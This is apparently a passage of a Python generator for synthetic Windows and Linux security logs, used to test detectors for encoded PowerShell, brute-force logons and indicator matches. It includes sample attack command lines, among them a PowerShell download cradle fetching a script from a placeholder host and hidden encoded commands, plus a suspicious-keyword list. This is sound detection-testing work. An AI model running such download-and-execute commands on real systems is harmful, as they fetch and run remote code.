        (PS_EXE, "powershell.exe -nop -c \"&([string][char]73+[char]69+[char]88) 'Write-Output pwned'\"", [F_OBF("[char] join")]),
        (PS_EXE, f"powershell.exe -nop -c \"$u={reverse_join('http://192.0.2.55/p.ps1')};IEX (iwr $u -UseBasicParsing).Content\"",
         [F_OBF("string reversal")]),
        (PS_EXE, enc_cmd("powershell.exe -nop -w hidden -enc {b64}", "cradle_paste"),
         [F_ENC("encoded payload that itself contains IEX DownloadString: only encoded-command")]),
        (CMD_EXE, enc_cmd("cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -w hidden -enc {b64}", "recon"),
         [F_ENC("carets + encoded flag: only encoded-command")]),
        (PS_EXE, "powershell.exe -nop -ep bypass -File C:\\Tools\\inventory.ps1", []),
        (PS_EXE, "powershell.exe -NoProfile -File C:\\Scripts\\deploy.ps1 -Environment Production", []),
    ]
    for image, cmd, findings in items:
        w.run(h, t, image, cmd, u, ex, findings=findings)
        t += step()
    srv = w.srv["FS01"]
    w.p4688(srv, t, PS_EXE, "powershell.exe -Command Get-Service", "grace", "C:\\Windows\\explorer.exe", 4 * 1337, elevated=True)
    t += step()
    w.p4688(srv, t, PS_EXE, enc_cmd("powershell.exe -nop -w hidden -encodedcommand {b64}", "recon"), "svc_backup",
            WMIPRVSE_EXE, 4 * 977, findings=[F_ENC("Security 4688 with -encodedcommand")])


def case_brute_force(w):
    r = w.rng
    rds, fs = w.srv["RDS01"], w.srv["FS01"]
    bast = w.lx["bastion-01"]
    # Windows positive: 6 failures (mixed case; needs lower-casing to reach 5) in ~1 minute, then success.
    t = at(13, 0, 5, 100)
    for i, u in enumerate(["svc_backup", "SVC_BACKUP", "svc_backup", "Svc_Backup", "svc_backup", "SVC_BACKUP"]):
        w.logon(rds, t + i * 9 * US, False, u, "203.0.113.45", 3, auth="NTLM", workstation="DESKTOP-7QK2M1T", domain="")
    w.logon(rds, t + 70 * US, True, "svc_backup", "203.0.113.45", 10, workstation="DESKTOP-7QK2M1T",
            findings=[(P_BF, R_BF, "Windows brute force then success")])
    # Linux positive: exactly 5 failures within the window, then success.
    t = at(13, 5, 0, 0)
    for i in range(5):
        w.ssh(bast, t + i * 6 * US, "root", "198.51.100.77", False)
    w.ssh(bast, t + 40 * US, "root", "198.51.100.77", True, findings=[(P_BF, R_BF, "Linux brute force then success")])
    # Negative: two typos then success (Linux).
    t = at(13, 10, 0, 0)
    w.ssh(bast, t, "grace", USER_IPS["grace"], False)
    w.ssh(bast, t + 5 * US, "grace", USER_IPS["grace"], False)
    w.ssh(bast, t + 12 * US, "grace", USER_IPS["grace"], True)
    # Negative: 6 failures spread over 30 minutes (one per 6 min), then success (Windows).
    t = at(13, 12, 0, 0)
    for i in range(6):
        w.logon(fs, t + i * 6 * 60 * US, False, "henry", USER_IPS["henry"], 3, auth="NTLM", workstation="WS-HENRY")
    w.logon(fs, t + 31 * 60 * US, True, "henry", USER_IPS["henry"], 3, auth="NTLM", workstation="WS-HENRY")
    # Negative: 5 failures for bob from an external address, no success from it;
    # bob then logs on successfully from his own workstation (different source).
    t = at(13, 15, 0, 0)
    for i in range(5):
        w.logon(rds, t + i * 5 * US, False, "bob", "192.0.2.15", 3, auth="NTLM", workstation="-", domain="")
    w.logon(rds, t + 60 * US, True, "bob", USER_IPS["bob"], 10, workstation="RDS01")


def case_ioc_match(w):
    h = w.ws["WS-DAVE"]
    b, ex = h.procs["browser"], h.procs["explorer"]
    t = at(16, 0, 0, 0)
    step = 5 * US + 250_000
    dom = lambda s: (P_IOC, R_DOM, s)  # noqa: E731
    ipf = lambda s: (P_IOC, R_IP, s)  # noqa: E731
    hsh = lambda s: (P_IOC, R_HASH, s)  # noqa: E731
    dns_items = [
        ("kxvrnet.top", "::ffff:192.0.2.41;", [dom("exact domain")]),
        ("notkxvrnet.top", "::ffff:192.0.2.42;", []),
        ("Mail.Secure-Auth.Click", "::ffff:192.0.2.88;", [dom("subdomain, mixed case")]),
        ("secure-auth.click.cdn-edge.example", "::ffff:192.0.2.89;", []),
        ("files.paste-drop.example", "::ffff:198.51.100.61;", [dom("exact multi-label indicator")]),
        ("paste-drop.example", "::ffff:198.51.100.62;", []),
        ("xfiles.paste-drop.example", "::ffff:198.51.100.63;", []),
    ]
    for name, res, f in dns_items:
        w.dns(h, t, b, name, res, findings=f)
        t += step
    w.net(h, t, b, "203.0.113.66", 443, "cdn.kxvrnet.top", findings=[dom("Sysmon 3 hostname"), ipf("Sysmon 3 destination IP")])
    t += step
    w.net(h, t, b, "198.51.100.23", 8443, "-", findings=[ipf("destination IP only")])
    t += step
    w.net(h, t, b, "198.51.100.230", 443, "-")
    t += step
    w.net(h, t, b, "203.0.113.6", 443, "-")
    t += step
    w.logon(w.srv["RDS01"], t, False, "administrator", "192.0.2.200", 3, auth="NTLM", workstation="-", domain="",
            findings=[ipf("4625 IpAddress")])
    t += step
    w.logon(w.srv["RDS01"], t, True, "alice", "192.0.2.20", 10, workstation="RDS01")
    t += step
    w.ssh(w.lx["bastion-01"], t, "admin", "198.51.100.23", False, invalid=True, findings=[ipf("Linux source.ip")])
    t += step
    meta = ("1.0.0.0", "Adobe Acrobat Reader", "-", "-", "stub.exe")
    w.run(h, t, "C:\\Users\\dave\\Downloads\\Invoice_88213.pdf.exe", "\"C:\\Users\\dave\\Downloads\\Invoice_88213.pdf.exe\" ",
          "dave", ex, meta=meta, sha256=IOC_SHA256[0].upper(), findings=[hsh("upper-case SHA256 in Hashes")])
    t += step
    w.run(h, t, "C:\\Users\\dave\\Downloads\\Invoice_88214.pdf.exe", "\"C:\\Users\\dave\\Downloads\\Invoice_88214.pdf.exe\" ",
          "dave", ex, meta=meta, sha256=(IOC_SHA256[0][:-1] + "9").upper())
    t += step
    w.run(h, t, "C:\\ProgramData\\Intel\\igfxupd.exe", "\"C:\\ProgramData\\Intel\\igfxupd.exe\" /silent", "dave", ex,
          meta=("1.2.0.7", "Intel(R) Graphics Update Helper", "Intel(R) Graphics", "Intel Corporation", "igfxupd.exe"),
          sha256=IOC_SHA256[1].upper(), findings=[hsh("second hash indicator")])


# --- reference detectors (mirror plugins/*/src/lib.rs) -----------------------


def _get(obj, path):
    cur = obj
    for part in path.split("."):
        if not isinstance(cur, dict) or part not in cur:
            return None
        cur = cur[part]
    return cur


def _is_b64(s):
    return all(c.isascii() and (c.isalnum() or c in "+/=") for c in s)


def ref_powershell(obj):
    cmd = _get(obj, "Event.EventData.CommandLine")
    if not isinstance(cmd, str):
        return []
    image = _get(obj, "Event.EventData.Image") or _get(obj, "Event.EventData.NewProcessName") or ""
    plain = cmd.replace("^", "").lower()
    if not (image.lower().endswith(("powershell.exe", "pwsh.exe")) or "powershell" in plain or "pwsh" in plain):
        return []
    tokens = cmd.split()
    i = 0
    while i < len(tokens):
        tok = tokens[i]
        i += 1
        if tok[:1] not in ("-", "/"):
            continue
        name = tok[1:].lower()
        if not (name == "ec" or (name and "encodedcommand".startswith(name))):
            continue
        if i >= len(tokens):
            break
        payload = tokens[i].strip("\"'")
        i += 1
        if len(payload) >= MIN_PAYLOAD and _is_b64(payload):
            return [(P_PS, R_ENC)]
    lower = cmd.lower()
    if cmd.count("^") >= 3 and ("powershell" in plain or "pwsh" in plain):
        return [(P_PS, R_OBF)]
    if lower.count("[char]") >= 3:
        return [(P_PS, R_OBF)]
    if any(m in lower for m in ("frombase64string(", "downloadstring(", "downloaddata(", "[-1..-")):
        return [(P_PS, R_OBF)]
    return []


def ref_ioc(obj):
    out = []
    for f in ("Event.EventData.QueryName", "Event.EventData.DestinationHostname"):
        v = _get(obj, f)
        if isinstance(v, str):
            name = v.rstrip(".").lower()
            labels = name.split(".")
            if any(".".join(labels[i:]) in IOC_DOMAINS for i in range(len(labels))):
                out.append((P_IOC, R_DOM))
                break
    for f in ("Event.EventData.DestinationIp", "Event.EventData.IpAddress", "source.ip"):
        v = _get(obj, f)
        if isinstance(v, str) and v.lower() in IOC_IPS:
            out.append((P_IOC, R_IP))
            break
    hashes = _get(obj, "Event.EventData.Hashes")
    if isinstance(hashes, str):
        for part in hashes.split(","):
            algo, _, value = part.partition("=")
            if algo.strip().lower() == "sha256":
                if value.strip().lower() in IOC_SHA256:
                    out.append((P_IOC, R_HASH))
                break
    return out


def _ts_seconds(ts):
    h, m, s = int(ts[11:13]), int(ts[14:16]), int(ts[17:19])
    assert ts[:10] == DAY
    return DAY_EPOCH + h * 3600 + m * 60 + s


def auth_attempt(obj):
    eid = _get(obj, "Event.System.EventID")
    if eid is not None:
        if eid not in (4624, 4625):
            return None
        ip = _get(obj, "Event.EventData.IpAddress")
        if not ip or ip == "-":
            return None
        return (eid == 4624, _get(obj, "Event.EventData.TargetUserName").lower(), ip,
                _ts_seconds(_get(obj, "Event.System.TimeCreated.#attributes.SystemTime")), "win")
    if "authentication" not in (_get(obj, "event.category") or []):
        return None
    outcome = _get(obj, "event.outcome")
    if outcome not in ("success", "failure"):
        return None
    return (outcome == "success", _get(obj, "user.name").lower(), _get(obj, "source.ip"), _ts_seconds(_get(obj, "@timestamp")), "linux")


def ref_brute_force(objs):
    """Line numbers (1-based) of successes that fire, using the plugin's state logic."""
    state = defaultdict(list)
    fired = set()
    for line, obj in enumerate(objs, 1):
        a = auth_attempt(obj)
        if not a:
            continue
        success, account, src, t, _ = a
        key = (account, src)
        recent = [x for x in state[key] if t - BF_WINDOW <= x <= t]
        if success:
            if len(recent) >= BF_THRESHOLD:
                fired.add(line)
            state.pop(key, None)
        else:
            state[key] = recent + [t]
    return fired


def reference_findings(objs):
    found = Counter()
    for line, obj in enumerate(objs, 1):
        for plugin, rule in ref_powershell(obj) + ref_ioc(obj):
            found[(line, plugin, rule)] += 1
    for line in ref_brute_force(objs):
        found[(line, P_BF, R_BF)] += 1
    return found


# --- stricter "near miss" checks on benign events ----------------------------

SUSPICIOUS_TEXT = ("frombase64", "downloadstring", "downloaddata", "downloadfile", "webclient", "invoke-expression",
                   "[char]", "-join", "..-", "^", "encodedcommand", "kxvrnet", "secure-auth", "paste-drop")
NEAR_FLAG = re.compile(r"(?:^|[\s\"'])[-/]+(e[a-z]*)\s+[\"']?([A-Za-z0-9+/=]{8,})(?=$|[\s\"'])", re.I)
EXEC_POLICY_VALUES = {"bypass", "remotesigned", "unrestricted", "restricted", "allsigned"}


def near_misses(objs, events, strict=True):
    """Problems that are not findings today but would be one small change away.

    With strict=False (test cases, which hold deliberate tricky negatives)
    only the brute-force margin is checked.
    """
    problems = []
    for line, (obj, ev) in enumerate(zip(objs, events), 1):
        if not strict:
            break
        planted = {(p, r_) for p, r_, _ in ev.findings}
        blob = json.dumps(obj).lower()
        cmds = [c for c in (_get(obj, "Event.EventData.CommandLine"), _get(obj, "Event.EventData.ParentCommandLine")) if c]
        # ParentCommandLine must never carry attack text (readers must not depend on which field they read).
        parent_cmd = _get(obj, "Event.EventData.ParentCommandLine")
        checked = cmds if not any(p == P_PS for p, _ in planted) else ([parent_cmd] if parent_cmd else [])
        for c in checked:
            lc = c.lower()
            for word in SUSPICIOUS_TEXT:
                if word in lc:
                    problems.append((line, f"benign command line contains {word!r}"))
            if re.search(r"\biex\b", lc):
                problems.append((line, "benign command line contains iex"))
            for m in NEAR_FLAG.finditer(c):
                flag, val = m.group(1).lower(), m.group(2).lower()
                if flag in ("executionpolicy", "exec", "ep", "ex") and val in EXEC_POLICY_VALUES:
                    continue
                problems.append((line, f"benign -{flag} followed by base64-looking {m.group(2)[:20]!r}"))
        # indicator text anywhere in the event requires the matching planted finding
        for d in IOC_DOMAINS:
            if d in blob and (P_IOC, R_DOM) not in planted:
                problems.append((line, f"indicator domain text {d} in a benign event"))
        for ip in IOC_IPS:
            if ip in blob and (P_IOC, R_IP) not in planted:
                problems.append((line, f"indicator IP text {ip} in a benign event"))
        for hsh in IOC_SHA256:
            if hsh in blob and (P_IOC, R_HASH) not in planted:
                problems.append((line, "indicator hash text in a benign event"))
        # domains that merely end with indicator letters
        for f in ("Event.EventData.QueryName", "Event.EventData.DestinationHostname"):
            v = (_get(obj, f) or "").lower()
            if any(v.endswith(d) for d in IOC_DOMAINS) and (P_IOC, R_DOM) not in planted:
                problems.append((line, f"benign name {v} ends with indicator letters"))
    # brute force: no benign success may have >= 4 failures for its (account, source)
    # within 600 s, with or without lower-casing, and with or without platform in the key
    attempts = [(line, auth_attempt(o)) for line, o in enumerate(objs, 1)]
    planted_bf = {line for line, ev in enumerate(events, 1) if any(p == P_BF for p, _, _ in ev.findings)}
    for line, a in attempts:
        if not a or not a[0] or line in planted_bf:
            continue
        _, account, src, t, _ = a
        n = 0
        for line2, b in attempts:
            if line2 >= line or not b or b[0]:
                continue
            if b[1] == account and b[2] == src and t - 600 <= b[3] <= t:
                n += 1
        if n >= 4:
            problems.append((line, f"benign success for {account}@{src} has {n} failures within 600 s"))
    return problems


# --- output -------------------------------------------------------------------


def finalize(world, seed):
    events = sorted(world.events, key=lambda e: (e.t, e.seq))
    r = random.Random(seed)
    rid = {SYSMON_CHANNEL: 4_811_907 + r.randint(0, 5000), "Security": 19_443_210 + r.randint(0, 5000)}
    for e in events:
        if "Event" in e.obj:
            ch = e.obj["Event"]["System"]["Channel"]
            rid[ch] += r.randint(1, 5)
            e.obj["Event"]["System"]["EventRecordID"] = rid[ch]
    return events


def verify(name, events):
    objs = [e.obj for e in events]
    planted = Counter()
    for line, e in enumerate(events, 1):
        for p, rule, _ in e.findings:
            planted[(line, p, rule)] += 1
    found = reference_findings(objs)
    errors = []
    for k in sorted(set(planted) | set(found)):
        if planted[k] != found[k]:
            errors.append(f"{name}: line {k[0]} {k[1]} {k[2]}: planted {planted[k]}, reference detector finds {found[k]}")
    for line, problem in near_misses(objs, events, strict=(name == "main")):
        errors.append(f"{name}: line {line}: {problem}")
    for line, e in enumerate(events, 1):
        cmd = _get(e.obj, "Event.EventData.CommandLine") or ""
        for m in re.finditer(r"(?:^|\s)[-/][A-Za-z]+\s+\"?([A-Za-z0-9+/]{16,}={0,2})", cmd):
            if any(rule == R_ENC for _, rule, _ in e.findings):
                try:
                    base64.b64decode(m.group(1), validate=True).decode("utf-16-le")
                except Exception as exc:  # pragma: no cover - generator bug
                    errors.append(f"{name}: line {line}: payload is not UTF-16LE Base64: {exc}")
    ts = [e.t for e in events]
    if ts != sorted(ts):
        errors.append(f"{name}: events are not sorted by time")
    return errors


def dump_jsonl(path, events):
    text = "".join(json.dumps(e.obj, separators=(",", ":")) + "\n" for e in events)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8", newline="\n")
    return text


def dump_json(path, value):
    path.write_text(json.dumps(value, indent=2) + "\n", encoding="utf-8", newline="\n")


def build_main():
    w = World(SEED)
    plant_main(w)
    gen_logon_scripts(w)
    gen_benign_net(w, 60)
    gen_benign_dns(w, 60)
    gen_benign_4688(w, 100)
    gen_benign_logons(w, 250)
    gen_benign_linux(w, 150)
    gen_benign_sysmon1(w, 450)
    return finalize(w, SEED + 1)


CASES = {
    "encoded-powershell": case_encoded_powershell,
    "brute-force": case_brute_force,
    "ioc-match": case_ioc_match,
}


def main():
    errors = []
    main_events = build_main()
    errors += verify("main", main_events)
    case_events = {}
    for i, (name, fn) in enumerate(CASES.items()):
        w = World(SEED + 100 + i)
        fn(w)
        evs = finalize(w, SEED + 200 + i)
        if not 5 <= len(evs) <= 30:
            errors.append(f"{name}: {len(evs)} events (want 5-30)")
        errors += verify(name, evs)
        case_events[name] = evs
    if errors:
        for e in errors:
            print("error:", e, file=sys.stderr)
        sys.exit(1)

    text = dump_jsonl(HERE / "events.jsonl", main_events)
    truth = [
        {"line": line, "plugin": p, "rule_id": rule, "scenario": scen}
        for line, e in enumerate(main_events, 1)
        for p, rule, scen in sorted(e.findings, key=lambda f: (f[0], f[1]))
    ]
    dump_json(HERE / "events.truth.json", truth)
    case_summary = []
    for name, evs in case_events.items():
        d = HERE / "cases" / name
        dump_jsonl(d / "events.jsonl", evs)
        expected = [
            {"plugin": p, "rule_id": rule, "event": line}
            for line, e in enumerate(evs, 1)
            for p, rule, _ in sorted(e.findings, key=lambda f: (f[0], f[1]))
        ]
        dump_json(d / "expected.json", expected)
        case_summary.append(f"{name}={len(evs)}ev/{len(expected)}exp")

    kinds = Counter(e.kind for e in main_events)
    planted_events = sum(1 for e in main_events if e.findings)
    per_rule = Counter(t["rule_id"].rsplit(".", 1)[-1] for t in truth)
    print(
        f"events.jsonl: {len(main_events)} events ("
        + ", ".join(f"{k}={kinds[k]}" for k in sorted(kinds))
        + f"), avg {len(text) // len(main_events)} B/line; planted: {planted_events} events / {len(truth)} findings ("
        + ", ".join(f"{k}={v}" for k, v in sorted(per_rule.items()))
        + "); cases: " + ", ".join(case_summary)
    )


if __name__ == "__main__":
    main()
